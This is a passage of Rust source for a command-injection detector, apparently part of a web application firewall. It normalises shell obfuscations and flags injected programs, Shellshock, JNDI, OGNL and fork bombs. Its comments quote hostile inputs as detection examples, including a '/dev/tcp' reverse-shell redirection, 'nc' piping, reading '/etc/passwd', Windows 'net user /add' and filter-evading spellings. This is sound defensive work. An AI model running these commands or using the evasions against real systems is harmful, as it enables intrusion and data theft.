//! Command injection: does a value, placed into a shell command line by an application
//! (`system("ping " . $host)`), start a command of its own?
//!
//! The value is read as the shell reads it: words split on blanks, with quotes,
//! backslashes, `$@`/`${x}` and brace/glob tricks removed from each word (`c'a't`,
//! `/bi[n]/bash`, `w$@get` all name the program), and control operators (`;` `|` `&`
//! `&&` `||` newline, `` ` `` and `$(`, `<(`) where a new command begins. A command
//! position holding a known program, or an absolute path into a `bin` directory,
//! is an injection; English words that are also programs (`id`, `more`, `time`) count
//! only when the shell could not read them as prose (no blank after the operator, or
//! followed by an option or a path). Windows `cmd.exe` (`FOR /F ... DO`, `IF EXIST`)
//! and SSI `<!--#exec` are recognised by their keywords, code that runs commands
//! (`system('id')`, `<?php`, `{${phpinfo()}}`) by its calls (`cmdi/code.rs`), and Log4j's
//! `${jndi:...}` lookups through their obfuscations (`cmdi/jndi.rs`), and the OGNL and
//! SpEL expressions that Struts and Spring evaluate into a call of Java's `Runtime`
//! (`cmdi/ognl.rs`). A line of SMTP, IMAP or POP3 after a CR LF is a command the
//! application's mail session runs (`cmdi/mail.rs`).

mod code;
mod glob;
mod jndi;
mod mail;
mod ognl;
mod words;

use crate::profile::{Profile, class};

/// A detected command injection.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CmdiMatch {
    /// The program the value runs (normalised).
    pub command: String,
}

const MAX_VALUE: usize = 4096;

/// Judge one decoded value.
pub fn detect(value: &[u8]) -> Option<CmdiMatch> {
    detect_profiled(value, Profile::of(value))
}

/// [`detect`] with the value's byte classes already known. A value longer than
/// [`MAX_VALUE`] is judged in windows of that size overlapping by 1 KiB
/// ([`crate::window`]), not on its prefix only.
pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
    detect_prefix(value, p).or_else(|| {
        crate::window::rest(value, MAX_VALUE, MAX_VALUE - 1024)
            .find_map(|w| detect_prefix(w, Profile::of(w)))
    })
}

/// The judgement of a value's first [`MAX_VALUE`] bytes.
fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
    let p = p.cut(value, MAX_VALUE);
    let v = &value[..value.len().min(MAX_VALUE)];
    // Without an operator (`; | & ` $ \n \r { ( < > %`) the only injection is a whole
    // command line: its first word must be a program. Most values stop here, before
    // any allocation.
    if !p.any(class::SHELL_OP) {
        let first = v
            .split(|&c| is_blank(c))
            .find(|w| !w.is_empty())
            .unwrap_or(b"");
        // Quotes and backslashes dropped, lower-cased: copied only when that changes it.
        let owned: Vec<u8>;
        let first: &[u8] = if first
            .iter()
            .any(|&c| matches!(c, b'\'' | b'"' | b'\\') || c.is_ascii_uppercase())
        {
            owned = first
                .iter()
                .filter(|&&c| !matches!(c, b'\'' | b'"' | b'\\'))
                .map(u8::to_ascii_lowercase)
                .collect();
            &owned
        } else {
            first
        };
        let batch = first == b"if" || first == b"for";
        if !(batch
            || words::strong(first)
            || words::weak(first)
            || words::bin_path(first)
            || words::wrapper(first)
            || first.contains(&b'[')
            || glob::target(first).is_some())
        {
            return None;
        }
    }
    if let Some(m) = windows_or_ssi(v) {
        return Some(m);
    }
    if let Some(function) = code::injected(v) {
        return hit(function);
    }
    if shellshock(v) {
        return hit("shellshock");
    }
    if let Some(scheme) = jndi::lookup(v) {
        return hit(&format!("jndi:{scheme}"));
    }
    if let Some(kind) = ognl::expression(v) {
        return hit(kind);
    }
    if let Some(path) = glob_word(v) {
        return hit(&format!("glob {path}"));
    }
    if let Some(m) = whole_shapes(v) {
        return Some(m);
    }
    // Bash's network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/tcp/...`):
    // a reverse shell whatever the program.
    for dev in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
        if memchr::memmem::find(v, dev).is_some() {
            return hit(&String::from_utf8_lossy(dev));
        }
    }
    // HTML character references, as a page or an XML parser that carried the value
    // decodes them (`&#x7B;`, `&amp;`), are read both ways.
    command_line(&tokens(v)).or_else(|| {
        memchr::memchr_iter(b'&', v)
            .any(|i| html_entity(v, i).is_some())
            .then(|| {
                let decoded = crate::decode::html_decode(v);
                command_line(&tokens(&decoded)).or_else(|| whole_shapes(&decoded))
            })
            .flatten()
    })
}

/// What is judged whole rather than word by word: a program a brace expansion spells,
/// a command line of the application's mail session after a CR LF (`cmdi/mail.rs`), a
/// fork bomb. Braces and CR are rare in values: one scan decides whether to look.
fn whole_shapes(v: &[u8]) -> Option<CmdiMatch> {
    memchr::memchr2(b'{', b'\r', v)?;
    if let Some(program) = brace_program(v) {
        return hit(&format!("brace {program}"));
    }
    if let Some(command) = mail::injected(v) {
        return hit(&command);
    }
    if fork_bomb(v) {
        return hit("fork bomb");
    }
    None
}

/// The command a value's words and operators start, if any.
fn command_line(toks: &[Tok]) -> Option<CmdiMatch> {
    // The value may itself be the start of the command (`cat /etc/passwd`), or follow
    // an operator, or sit inside backticks / `$( )`.
    let mut at_start = true;
    let mut after_op: Option<Op> = None;
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::Op(op) => {
                after_op = Some(*op);
                at_start = false;
            }
            Tok::Word(w) => {
                if at_start || after_op.is_some() {
                    if let Some(name) = variable(&w.text) {
                        // `$c` as the command: what the value assigned it (`c=cat&&$c
                        // /etc/passwd`); unassigned, it expands to nothing and the next
                        // word is the command (`;$u wget ...`).
                        if let Some(program) = assigned_program(&toks[..i], name) {
                            return hit(&program);
                        }
                        continue;
                    }
                    if let Some(m) = wrapped(&toks[i..]).or_else(|| builtin(&toks[i..])) {
                        return Some(m);
                    }
                }
                if let Some(op) = after_op.take() {
                    // (`Cat` is no Unix program: `&quot;Make is ...` is prose.)
                    if w.could_run() && command_here(w, op, &toks[i + 1..]) {
                        return hit(&String::from_utf8_lossy(&w.text));
                    }
                } else if at_start
                    && w.could_run()
                    && (((words::strong(&w.text) || words::bin_path(&w.text))
                        && toks.get(i + 1).is_some_and(|n| match n {
                            Tok::Word(_) => shellish_arg(n),
                            // `cat;`, `ls|nc ...`, `uname `id``; not `cat & dog` or
                            // `PHP (Hypertext Preprocessor)`, whose operator starts no
                            // command (one after it is judged there).
                            Tok::Op(op) => matches!(op, Op::Seq { .. } | Op::Subst),
                        }))
                        // (`true` and `false` run nothing: `has_focus=false%0A` is a
                        // form's flag, where `id%0A` is a probe.)
                        || (words::weak(&w.text)
                            && !matches!(w.text.as_slice(), b"true" | b"false")
                            && ends_command(&toks[i + 1..]))
                        || ((words::strong(&w.text) || words::weak(&w.text))
                            && redirects_to_path(&toks[i + 1..]))
                        // `w'h'oami`, `'c'url localhost`: spliced to pass a filter.
                        || (w.spliced
                            && w.text.len() >= 3
                            && !w.text.contains(&b'/')
                            && words::strong(&w.text)))
                {
                    // `cat /etc/passwd`, `/bin/ls -al`, `id;`: a whole command line as the
                    // value.
                    return hit(&String::from_utf8_lossy(&w.text));
                }
                at_start = false;
            }
        }
    }
    None
}

fn hit(command: &str) -> Option<CmdiMatch> {
    Some(CmdiMatch {
        command: command.to_string(),
    })
}

/// A word that is one parameter expansion, `$name`: its name.
fn variable(w: &[u8]) -> Option<&[u8]> {
    let name = w.strip_prefix(b"$")?;
    (!name.is_empty()
        && name[0].is_ascii_alphabetic()
        && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_'))
    .then_some(name)
}

/// The program an earlier `name=program` word of the value assigned to `name`.
fn assigned_program(before: &[Tok], name: &[u8]) -> Option<String> {
    before.iter().rev().find_map(|t| {
        let Tok::Word(w) = t else { return None };
        let value = w.text.strip_prefix(name)?.strip_prefix(b"=")?;
        (words::strong(value) || words::weak(value) || words::bin_path(value))
            .then(|| String::from_utf8_lossy(value).into_owned())
    })
}

/// Shell builtins that only a shell reads with these arguments: `alias name=...`,
/// `alias -p`, `set -o history`; and the sqlite3 shell's `.shell` / `.system`.
fn builtin(toks: &[Tok]) -> Option<CmdiMatch> {
    let word = |k: usize| match toks.get(k) {
        Some(Tok::Word(w)) => Some(w.text.as_slice()),
        _ => None,
    };
    let first = word(0)?;
    let next = word(1);
    let option = |n: &[u8]| n.first() == Some(&b'-') && n.len() > 1;
    let shell = match first {
        b"alias" => next.is_some_and(|n| option(n) || n.iter().skip(1).any(|&c| c == b'=')),
        // (`+o` reads as `o`: a `+` is taken for a form-encoded blank.)
        b"set" => next.is_some_and(|n| n == b"-o"),
        b".shell" | b".system" => true,
        _ => false,
    };
    shell.then(|| CmdiMatch {
        command: String::from_utf8_lossy(first).into_owned(),
    })
}

/// A command line run through a wrapper: `nohup sh -c whoami`, `cpulimit -l 100 -f
/// whoami`, `time sh -c whoami`, `strace who` (see [`words::wrapper`]).
fn wrapped(toks: &[Tok]) -> Option<CmdiMatch> {
    let Some(Tok::Word(first)) = toks.first() else {
        return None;
    };
    let english = words::english_wrapper(&first.text);
    if !(english || words::wrapper(&first.text)) {
        return None;
    }
    // A wrapper that is no word of prose runs a program that is one too (`nohup who`),
    // as long as it ends the command line or takes an option or a path; `env` and
    // `exec` also take plain words (`env test`).
    let weak_too = !english && !matches!(first.text.as_slice(), b"env" | b"exec");
    // The program: within the next four words, past options, numbers and paths.
    for (j, t) in toks.iter().enumerate().skip(1).take(4) {
        let Tok::Word(w) = t else { return None };
        let ends = || {
            toks.get(j + 1)
                .is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n))
        };
        let program = words::strong(&w.text)
            || words::bin_path(&w.text)
            || (weak_too && words::weak(&w.text) && ends());
        if program && (!english || toks.get(j + 1).is_some_and(shellish_arg)) {
            return hit(&String::from_utf8_lossy(&w.text));
        }
        let skippable = w.text.first() == Some(&b'-')
            || w.text.first() == Some(&b'/')
            || w.text.iter().all(u8::is_ascii_digit);
        if english || !skippable {
            return None;
        }
    }
    None
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    /// `;` `|` `||` `&&` newline: sequence or pipe, glued to the next word.
    Seq { glued: bool },
    /// A lone `&` (prose uses it: `Tom & Jerry`).
    Amp { glued: bool },
    /// `` ` `` `$(` `<(` `>(`: command substitution.
    Subst,
}

#[derive(Debug)]
struct Word {
    /// Normalised: quotes, backslashes, `$@`, `${}`, `[x]` globs removed, lower-case.
    text: Vec<u8>,
    /// Written in sentence case (`Make`, `Mount`): a Unix shell would run no program by
    /// that name, prose starts its sentences so.
    title: bool,
    /// Right after a `>`: where a redirection sends a command's output.
    redirected: bool,
    /// Quotes, backslashes or empty expansions were taken out of the word's inside
    /// (`w'h'oami`, `'c'url`): a name spliced so that filters miss it, which no one
    /// writes otherwise (quotes around a whole word do not count).
    spliced: bool,
}

impl Word {
    /// Can a shell run a program by this name? Not `Cat` on Unix; Windows ignores case.
    fn could_run(&self) -> bool {
        !self.title || words::windows(&self.text)
    }
}

#[derive(Debug)]
enum Tok {
    Op(Op),
    Word(Word),
}

fn command_here(w: &Word, op: Op, rest: &[Tok]) -> bool {
    let text = &w.text;
    if words::bin_path(text) {
        return true;
    }
    let next = rest.first();
    let program = words::strong(text) || words::weak(text);
    match op {
        Op::Subst => words::strong(text) || (words::weak(text) && !words::tool(text)),
        Op::Seq { glued } => {
            words::strong(text)
                || (words::weak(text)
                    && (glued
                        || next.is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n))
                        || redirects_to_path(rest)))
        }
        Op::Amp { glued } => {
            (words::strong(text) && next.is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n)))
                || (glued
                    && program
                    && (next.is_none_or(|n| matches!(n, Tok::Op(_))) || redirects_to_path(rest)))
        }
    }
}

/// Does the command whose arguments `rest` starts with send its output to a path
/// (`id > /var/www/html/x.txt`, `echo x >/tmp/y`, `whoami > C:\temp\o.txt`)? Writing
/// a file into the web root is how injection tools see their output when the page
/// shows none (commix's file-based technique); prose puts no `>` before a path.
fn redirects_to_path(rest: &[Tok]) -> bool {
    rest.iter()
        .take(8)
        .map_while(|t| match t {
            Tok::Word(w) => Some(w),
            Tok::Op(_) => None,
        })
        .any(|w| {
            // A file: `/` and a name (not `/` alone, nor a `//` comment), a drive
            // path, or one under a variable (`%temp%\\x`).
            let t = &w.text;
            w.redirected
                && match t.as_slice() {
                    [b'/', c, ..] => c.is_ascii_alphanumeric() || *c == b'.',
                    [b'c', b':', _, ..] | [b'%', _, ..] => true,
                    _ => false,
                }
        })
}

/// After a word that is also English (`id`, `system`, `history`): a `;` `|` `&&` `||`
/// that ends the value, is glued to what follows (`id;`, `id|nc ...`), or starts a
/// command line: a program, a hyphenated name as multi-part programs have
/// (`ansible-vault`, `ssh-keygen`), or an option, a path or an address among its
/// arguments (`time; ansible all -m ping`). Prose puts a blank after its semicolons
/// and goes on in words (`system; it is up to the author ...`).
fn ends_command(rest: &[Tok]) -> bool {
    let Some(Tok::Op(Op::Seq { glued })) = rest.first() else {
        return false;
    };
    let mut line = rest[1..].iter().map_while(|t| match t {
        Tok::Word(w) => Some(w),
        Tok::Op(_) => None,
    });
    let program = |w: &Word| {
        let t = &w.text;
        words::strong(t)
            || words::weak(t)
            || words::bin_path(t)
            || t.windows(3)
                .any(|p| p[0].is_ascii_alphanumeric() && p[1] == b'-' && p[2].is_ascii_alphabetic())
    };
    *glued
        || rest.len() == 1
        || line.next().is_some_and(program)
        || line.any(|w| shellish_word(&w.text))
}

/// `${name}` at `i` inside a word (a letter, digit or `_` right before or after it):
/// a parameter expansion (its length), which an unset variable turns into nothing
/// (`c${u}at` is `cat`). On its own, `${cmd}` is left to be read as a brace group.
fn expansion(v: &[u8], i: usize) -> Option<usize> {
    if v.get(i) != Some(&b'$') || v.get(i + 1) != Some(&b'{') {
        return None;
    }
    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
    let name = v[i + 2..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let inside = (i > 0 && word(v.get(i - 1))) || word(v.get(i + 3 + name));
    (name > 0 && v.get(i + 2 + name) == Some(&b'}') && inside).then_some(name + 3)
}

/// An HTML character reference at `i` (`&quot;`, `&#39;`, `&#x27;`): its length.
fn html_entity(v: &[u8], i: usize) -> Option<usize> {
    if v.get(i) != Some(&b'&') {
        return None;
    }
    let rest = &v[i + 1..v.len().min(i + 12)];
    let body = match rest {
        [b'#', b'x' | b'X', hex @ ..] => {
            hex.iter().take_while(|c| c.is_ascii_hexdigit()).count() + 2
        }
        [b'#', dec @ ..] => dec.iter().take_while(|c| c.is_ascii_digit()).count() + 1,
        _ => rest.iter().take_while(|c| c.is_ascii_alphabetic()).count(),
    };
    let named = !rest.starts_with(b"#");
    let ok = if named {
        (2..=8).contains(&body)
    } else {
        body > 2 || (body == 2 && rest[0] == b'#' && rest[1] != b'x')
    };
    (ok && rest.get(body) == Some(&b';')).then_some(body + 2)
}

/// `${name}` at `i` standing alone (not inside a word): the name's length. After a
/// word it is a variable (`stop exporting ${PYTHON}`); where a command starts, it is
/// read as a brace group (`${cmd}`, a probe).
fn braced_variable(v: &[u8], i: usize) -> Option<usize> {
    if !v[i..].starts_with(b"${") || expansion(v, i).is_some() {
        return None;
    }
    let name = v[i + 2..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    (name > 0 && v[i + 2].is_ascii_alphabetic() && v.get(i + 2 + name) == Some(&b'}'))
        .then_some(name)
}

/// `` `` `` or `$()` at `i`: an empty command substitution, which a shell replaces by
/// nothing (`pi``ng`, `pi$()ng`): its length.
fn empty_substitution(v: &[u8], i: usize) -> Option<usize> {
    let rest = &v[i..];
    if rest.starts_with(b"``") {
        Some(2)
    } else if rest.starts_with(b"$()") {
        Some(3)
    } else {
        None
    }
}

/// Shellshock: an environment value (a header, for CGI) that starts a function
/// definition, `() { :; }; cmd`.
fn shellshock(v: &[u8]) -> bool {
    let mut rest = v.iter().filter(|c| !c.is_ascii_whitespace());
    rest.next() == Some(&b'(') && rest.next() == Some(&b')') && rest.next() == Some(&b'{')
}

/// The length of a Markdown code span at `i` that quotes one word a shell would read as
/// an English word as much as a program (`` `type` ``, `` `host` ``, `` `set` ``), standing
/// apart from the words around it: not a substitution anyone sends. `` `id` ``, the
/// probe of every scanner, and the programs that are no English word stay
/// substitutions.
fn markdown_span(v: &[u8], i: usize) -> Option<usize> {
    let body = &v[i + 1..];
    let len = body
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-'))
        .count();
    let word = &body[..len];
    let apart_before = i == 0 || matches!(v[i - 1], b' ' | b'\t' | b'\n' | b'(' | b'"');
    let after = body.get(len + 1).copied();
    let apart_after = after.is_none_or(|c| !c.is_ascii_alphanumeric() && c != b'`');
    let lower = word.to_ascii_lowercase();
    (len > 0
        && body.get(len) == Some(&b'`')
        && apart_before
        && apart_after
        && lower != b"id"
        && words::weak(&lower)
        && !words::strong(&lower))
    .then_some(len + 2)
}

/// A program's name a brace expansion spells (`c{a,oun}t` is `cat count`, `{,$"whoami",}`
/// is `whoami`): bash expands the braces inside a word before it looks the command up, so
/// each alternative with the word's letters around it is a name the shell may run. Two
/// letters are not enough (`l{s,x}`); prose and templates spell no program so.
fn brace_program(v: &[u8]) -> Option<String> {
    memchr::memchr(b',', v)?;
    let letter = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-');
    memchr::memchr_iter(b'{', v).find_map(|open| {
        let close = open + 1 + memchr::memchr(b'}', &v[open + 1..])?;
        let inside = &v[open + 1..close];
        if memchr::memchr(b',', inside).is_none() || inside.iter().any(|c| is_blank(*c)) {
            return None;
        }
        let start = v[..open]
            .iter()
            .rposition(|c| !letter(c))
            .map_or(0, |p| p + 1);
        let end = close + 1 + v[close + 1..].iter().take_while(|c| letter(c)).count();
        // Inside a word, or spelt with quotes: a list in braces (`{cat,dog}`, a
        // PostgreSQL array) names things; the shell's own `{cat,/etc/passwd}` is read
        // as a command start elsewhere.
        let in_word = start < open || end > close + 1;
        inside.split(|&c| c == b',').find_map(|alt| {
            // Quotes and bash's `$"..."` locale strings around an alternative are nothing;
            // only the latter shows a shell (`{"cat","dog"}` is a PostgreSQL array too).
            let locale = memchr::memmem::find(alt, b"$\"").is_some()
                || memchr::memmem::find(alt, b"$'").is_some();
            if !(in_word || locale) {
                return None;
            }
            let alt: Vec<u8> = alt
                .iter()
                .copied()
                .filter(|c| !matches!(c, b'$' | b'"' | b'\''))
                .collect();
            let name = [&v[start..open], &alt[..], &v[close + 1..end]]
                .concat()
                .to_ascii_lowercase();
            (name.len() >= 3 && words::strong(&name))
                .then(|| String::from_utf8_lossy(&name).into_owned())
        })
    })
}

/// A fork bomb: a shell function whose body runs the function twice, piped or in the
/// background (`:(){ :|:& };:`, `f(){ f() & f(); }; f`), which exhausts the process
/// table of the host it runs on. A function that calls itself otherwise (`fib(){ ...
/// fib $((n-1)) ... }`) is no bomb.
fn fork_bomb(v: &[u8]) -> bool {
    let name_byte = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.' | b'-');
    memchr::memmem::find_iter(v, b"()").any(|i| {
        let after = v[i + 2..].trim_ascii_start();
        let Some(body) = after.strip_prefix(b"{") else {
            return false;
        };
        let start = v[..i]
            .iter()
            .rposition(|c| !name_byte(c))
            .map_or(0, |p| p + 1);
        let name = &v[start..i];
        let end = memchr::memchr(b'}', body).unwrap_or(body.len());
        // The body without blanks and without the calls' `()`.
        let mut flat: Vec<u8> = body[..end]
            .iter()
            .copied()
            .filter(|c| !c.is_ascii_whitespace())
            .collect();
        while let Some(at) = memchr::memmem::find(&flat, b"()") {
            flat.drain(at..at + 2);
        }
        !name.is_empty()
            && [b'|', b'&'].iter().any(|&op| {
                let twice = [name, &[op][..], name].concat();
                memchr::memmem::find(&flat, &twice).is_some()
            })
    })
}

/// The first word of the value that is a glob spelling a system path (`/???/??t`).
fn glob_word(v: &[u8]) -> Option<&'static str> {
    if memchr::memchr3(b'?', b'*', b'[', v).is_none() || memchr::memchr(b'/', v).is_none() {
        return None;
    }
    v.split(|c| is_blank(*c) || b";|&`()<>{},'\"\n\r=".contains(c))
        .find_map(glob::target)
}

/// An argument only a command line has: an option, a path, a URL, an address.
fn shellish_arg(t: &Tok) -> bool {
    let Tok::Word(w) = t else { return true };
    shellish_word(&w.text)
}

fn shellish_word(s: &[u8]) -> bool {
    s.first() == Some(&b'-') && s.len() > 1
        || s.first() == Some(&b'/')
        || s.starts_with(b"http://")
        || s.starts_with(b"https://")
        || s.starts_with(b"c:")
        || (s.iter().filter(|&&c| c == b'.').count() == 3
            && s.iter().all(|c| c.is_ascii_digit() || *c == b'.'))
        || s.first() == Some(&b'$')
}

/// Blanks as the shell splits words, plus `+`: values arrive form-encoded more often
/// than a `+` is meant literally next to a program name.
fn is_blank(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\x0b' | b'\x0c' | b'+')
}

fn tokens(v: &[u8]) -> Vec<Tok> {
    // `${IFS}` and `$IFS` are the field separator: a blank.
    let ifs;
    let v = if memchr::memmem::find(v, b"IFS").is_some() {
        ifs = String::from_utf8_lossy(v)
            .replace("${IFS}", " ")
            .replace("$IFS", " ");
        ifs.as_bytes()
    } else {
        v
    };
    let mut out = Vec::new();
    let mut i = 0;
    let n = v.len();
    // The last character skipped before the next word was a `>` that redirects; an
    // HTML tag is open.
    let (mut redirected, mut in_tag) = (false, false);
    // Inside a backtick substitution: the next backtick closes it, and what follows
    // goes on with the command around it (`` `Parallel` which will ``, `` `-o x` mount
    // option ``), at no command position.
    let mut tick_open = false;
    // Prose around (Markdown that quotes names as code: `` `type` is the type of ... ``).
    let prose = memchr::memchr(b'`', v).is_some() && crate::profile::has_words(v, 6);
    while i < n && out.len() < 256 {
        if let Some(len) = empty_substitution(v, i) {
            i += len;
            continue;
        }
        if let Some(name) = braced_variable(v, i)
            && matches!(out.last(), Some(Tok::Word(_)))
        {
            // `${NAME}` on its own: a variable, written as `$name`.
            let mut text = vec![b'$'];
            text.extend(v[i + 2..i + 2 + name].iter().map(u8::to_ascii_lowercase));
            out.push(Tok::Word(Word {
                text,
                title: false,
                redirected: false,
                spliced: false,
            }));
            i += name + 3;
            continue;
        }
        let c = v[i];
        let two = v.get(i + 1).copied();
        let expands = expansion(v, i).is_some();
        if c == b'`'
            && !tick_open
            && prose
            && let Some(len) = markdown_span(v, i)
        {
            // A word quoted as code in prose: a name, not a substitution.
            i += len;
            continue;
        }
        if c == b'`' && !expands {
            tick_open = !tick_open;
            if !tick_open {
                redirected = false;
                i += 1;
                continue;
            }
        }
        let (op, len) = match (c, two) {
            _ if expands => (None, 0),
            (b'|', Some(b'|')) | (b'&', Some(b'&')) => (Some(Op::Seq { glued: false }), 2),
            (b'$', Some(b'(')) | (b'<', Some(b'(')) | (b'>', Some(b'(')) => (Some(Op::Subst), 2),
            (b';' | b'|' | b'\n' | b'\r', _) => (Some(Op::Seq { glued: false }), 1),
            // A value that opens with a lone `&` goes on from the application's command
            // line (`& net user x y /ADD`): prose does not open with one.
            (b'&', _) if out.is_empty() => (Some(Op::Seq { glued: false }), 1),
            (b'&', _) => (Some(Op::Amp { glued: false }), 1),
            // So does one that opens with a brace expansion (`{,ip,a}`, `{cat,/etc/x}`);
            // JSON opens with `{"` or a blank.
            (b'{', Some(n)) if out.is_empty() && n != b'"' && !is_blank(n) => {
                (Some(Op::Seq { glued: false }), 1)
            }
            (b'`', _) => (Some(Op::Subst), 1),
            // `{ls,-la}` brace expansion and `( cmd )` subshells start a command too.
            // Prose opens parentheses too (`(less than 1 minute)`): judged like `&`.
            (b'{' | b'(', _) => (Some(Op::Amp { glued: true }), 1),
            _ => (None, 0),
        };
        if let Some(op) = op {
            // Prose never starts with an operator: at the start it is as good as glued.
            // A line break is never glued: prose starts its lines with a word too.
            // A `(` or `{` after a word starts no command: `hello world (test)` is a
            // syntax error to sh, `/users/{id}` and `echo {ls,-la}` are arguments. Prose
            // and templates write both so: only a program that reads as no prose counts
            // there, as after a lone `&`.
            let after_word = matches!(c, b'(' | b'{') && matches!(out.last(), Some(Tok::Word(_)));
            let glued = out.is_empty()
                || (!after_word
                    && !matches!(c, b'\n' | b'\r')
                    && v.get(i + len).is_some_and(|c| !is_blank(*c)));
            let op = match op {
                Op::Seq { .. } => Op::Seq { glued },
                Op::Amp { .. } => Op::Amp { glued },
                Op::Subst => Op::Subst,
            };
            out.push(Tok::Op(op));
            redirected = false;
            i += len;
            continue;
        }
        if is_blank(c) || matches!(c, b')' | b'}' | b',' | b'<' | b'>') {
            // A `>` that closes an HTML tag (`<b>/usr</b>`) redirects nothing.
            match c {
                b'<' => {
                    in_tag = v
                        .get(i + 1)
                        .is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, b'/' | b'!'));
                    redirected = false;
                }
                b'>' => redirected = !std::mem::replace(&mut in_tag, false),
                c if !is_blank(c) => redirected = false,
                _ => {}
            }
            i += 1;
            continue;
        }
        let mut text = Vec::new();
        let start = i;
        // The length of `text` when something was last taken out of the word.
        let mut cut_at = 0;
        while i < n {
            if matches!(v[i], b'$' | b'`')
                && let Some(len) = expansion(v, i).or_else(|| empty_substitution(v, i))
            {
                cut_at = text.len();
                i += len;
                continue;
            }
            let c = v[i];
            // (A line break ends a word: `1%0Acat /etc/passwd` is two commands.)
            if is_blank(c)
                || matches!(
                    c,
                    b';' | b'|'
                        | b'&'
                        | b'`'
                        | b'('
                        | b')'
                        | b'{'
                        | b'}'
                        | b','
                        | b'<'
                        | b'>'
                        | b'\n'
                        | b'\r'
                )
            {
                break;
            }
            match c {
                b'\'' | b'"' | b'\\' => {
                    if !text.is_empty() {
                        cut_at = text.len();
                    }
                }
                // `$@`, `$*`, `$!`, `$_` expand to nothing in a fresh shell: `c$@at` is `cat`;
                // `$?`, `$-`, `$$`, `$#` are short strings written into a name for the
                // same purpose (they break it for the filter, if not for the shell).
                b'$' if matches!(
                    v.get(i + 1),
                    Some(b'@' | b'*' | b'!' | b'_' | b'?' | b'-' | b'$' | b'#')
                ) =>
                {
                    i += 1
                }
                // `$name` inside a word: an unset variable, nothing (`uname$u`, `n$u\c`).
                b'$' if !text.is_empty()
                    && v.get(i + 1)
                        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') =>
                {
                    i += v[i + 1..]
                        .iter()
                        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                        .count();
                }
                b'$' if v.get(i + 1) == Some(&b'(') => break,
                b'[' => {
                    // `[n]` glob of one character: keep the character.
                    if let (Some(&g), Some(b']')) = (v.get(i + 1), v.get(i + 2)) {
                        text.push(g.to_ascii_lowercase());
                        i += 3;
                        continue;
                    }
                    text.push(c);
                }
                _ => text.push(c.to_ascii_lowercase()),
            }
            i += 1;
        }
        if text.is_empty() {
            redirected = false;
        } else {
            let raw = &v[start..i];
            let title = raw.first().is_some_and(u8::is_ascii_uppercase)
                && raw.iter().skip(1).any(u8::is_ascii_lowercase)
                && !raw.iter().skip(1).any(u8::is_ascii_uppercase);
            let spliced = cut_at > 0 && cut_at < text.len();
            out.push(Tok::Word(Word {
                text,
                title,
                redirected: std::mem::take(&mut redirected),
                spliced,
            }));
        }
    }
    out
}

/// A batch `IF` that compares (`IF "%1"=="x" cmd`, `if (1) equ (1) echo`): its operands
/// quoted, bracketed or variables, or one of cmd's comparison words.
fn batch_if(lower: &[u8]) -> bool {
    let Some(rest) = lower.trim_ascii_start().strip_prefix(b"if ") else {
        return false;
    };
    let rest = rest.strip_prefix(b"/i ").unwrap_or(rest);
    let negated = rest.starts_with(b"not ");
    let rest = rest.strip_prefix(b"not ").unwrap_or(rest);
    let has = |p: &[u8]| memchr::memmem::find(rest, p).is_some();
    let word_op = [
        &b" equ "[..],
        b" neq ",
        b" lss ",
        b" leq ",
        b" gtr ",
        b" geq ",
    ]
    .iter()
    .any(|p| has(p));
    let operand = matches!(rest.first(), Some(b'"' | b'[' | b'(' | b'{' | b'%' | b'!'));
    // `IF NOT a==b`: prose negates with words, not with `==`.
    word_op || ((operand || negated) && has(b"=="))
}

/// Windows administration as the whole value (lower-cased, blanks squeezed): `net user
/// x y /add`, `net localgroup administrators x /add`, `reg add "HKLM\..." /v ...`,
/// `netsh firewall set opmode disable`. `net` and `reg` are words of prose too (*net user
/// growth*), so their subcommand and a switch or a registry hive must follow; `netsh`
/// is no word.
fn windows_admin(lower: &[u8]) -> Option<&'static str> {
    let mut words = lower.split(|&c| c == b' ').filter(|w| !w.is_empty());
    let program = words.next()?;
    let sub = words.next()?;
    match program.strip_suffix(b".exe").unwrap_or(program) {
        b"net" => {
            let subcommand = matches!(
                sub,
                b"user" | b"users" | b"localgroup" | b"group" | b"share" | b"use" | b"accounts"
            );
            let switch = |w: &[u8]| {
                matches!(w, b"/add" | b"/delete" | b"/del" | b"/domain")
                    || [&b"/user:"[..], b"/active:", b"/grant:"]
                        .iter()
                        .any(|s| w.starts_with(s))
            };
            (subcommand && words.take(16).any(switch)).then_some("net")
        }
        b"reg" => {
            let verb = matches!(
                sub,
                b"add" | b"delete" | b"query" | b"import" | b"export" | b"save" | b"load" | b"copy"
            );
            let hive = words.next().is_some_and(|k| {
                k.trim_ascii_start()
                    .strip_prefix(b"\"")
                    .unwrap_or(k)
                    .starts_with(b"hk")
            });
            (verb && hive).then_some("reg")
        }
        b"netsh" => Some("netsh"),
        _ => None,
    }
}

/// `cmd.exe` control words, Windows administration and server-side includes, which have
/// their own syntax.
fn windows_or_ssi(v: &[u8]) -> Option<CmdiMatch> {
    // Lower-cased with runs of blanks squeezed: `IF    EXIST` is `if exist`.
    let mut lower: Vec<u8> = Vec::with_capacity(v.len());
    for &c in v {
        let c = if c.is_ascii_whitespace() {
            b' '
        } else {
            c.to_ascii_lowercase()
        };
        if !(c == b' ' && lower.last() == Some(&b' ')) {
            lower.push(c);
        }
    }
